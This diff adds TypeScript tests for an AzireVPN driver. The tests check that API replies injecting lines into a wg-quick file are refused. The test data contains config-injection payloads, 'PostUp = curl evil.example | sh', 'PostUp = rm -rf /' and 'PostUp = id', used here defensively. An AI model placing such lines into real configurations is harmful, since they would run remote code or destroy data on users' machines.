@@ -128,3 +128,51 @@ describe('AzireVPN driver', () => {
     )
   })
 })
+
+describe('AzireVPN replies that would write into the wg-quick file', () => {
+  const ips = JSON.parse(fixture('ips')) as { data: Record<string, unknown> }
+  const locations = JSON.parse(fixture('locations')) as { locations: Record<string, unknown>[] }
+  /** The configuration flow with `/v3/ips` and `/v3/locations` answered by these bodies. */
+  async function configureWith(ipsBody: unknown, locationsBody: unknown): Promise<unknown> {
+    const send: HttpSend = async (request) => {
+      const path = new URL(request.url).pathname
+      const body = path === '/v3/ips' ? ipsBody : path === '/v3/locations' ? locationsBody : undefined
+      return new Response(JSON.stringify(body ?? { status: 'error' }), {
+        status: body === undefined ? 404 : 200,
+        headers: { 'content-type': 'application/json' },
+      })
+    }
+    const clock = createVirtualClock(1_700_000_000_000)
+    const rng = createSeededRng('azire-hostile')
+    const ctx = {
+      session: createHttpSession({ send, clock, rng }, { minIntervalMs: 0 }),
+      network: networkParams('bitcoin'),
+      clock,
+      rng,
+      log: createMemoryLogger(),
+    }
+    return driver.configuration(ctx, account).catch((e: unknown) => e)
+  }
+
+  it.each([
+    ['a pool host with a PostUp line', 'pool', 'se-sto.azirevpn.net\nPostUp = curl evil.example | sh'],
+    ['a pool that is not a host name', 'pool', 'se-sto azirevpn net'],
+  ])('refuses %s in /v3/locations with CLOUDOMATE_API_ERROR', async (_what, key, value) => {
+    const hostile = { ...locations, locations: [{ ...locations.locations[0], [key]: value }] }
+    expect(errorCode(await configureWith(ips, hostile))).toBe('CLOUDOMATE_API_ERROR')
+  })
+
+  it.each([
+    ['a DNS server with a PostUp line', 'dns', ['91.231.153.2\nPostUp = rm -rf /']],
+    ['a DNS server that is no address', 'dns', ['dns.example']],
+    ['an IPv4 address out of range', 'ipv4_address', '999.0.12.34'],
+    ['an IPv6 address with a line break', 'ipv6_address', '2a0e::1\nPostUp = id'],
+  ])('refuses %s in /v3/ips with CLOUDOMATE_API_ERROR', async (_what, key, value) => {
+    const hostile = { ...ips, data: { ...ips.data, [key]: value } }
+    expect(errorCode(await configureWith(hostile, locations))).toBe('CLOUDOMATE_API_ERROR')
+  })
+
+  it('still reads the recorded replies', async () => {
+    expect(errorCode(await configureWith(ips, locations))).toBeUndefined()
+  })
+})
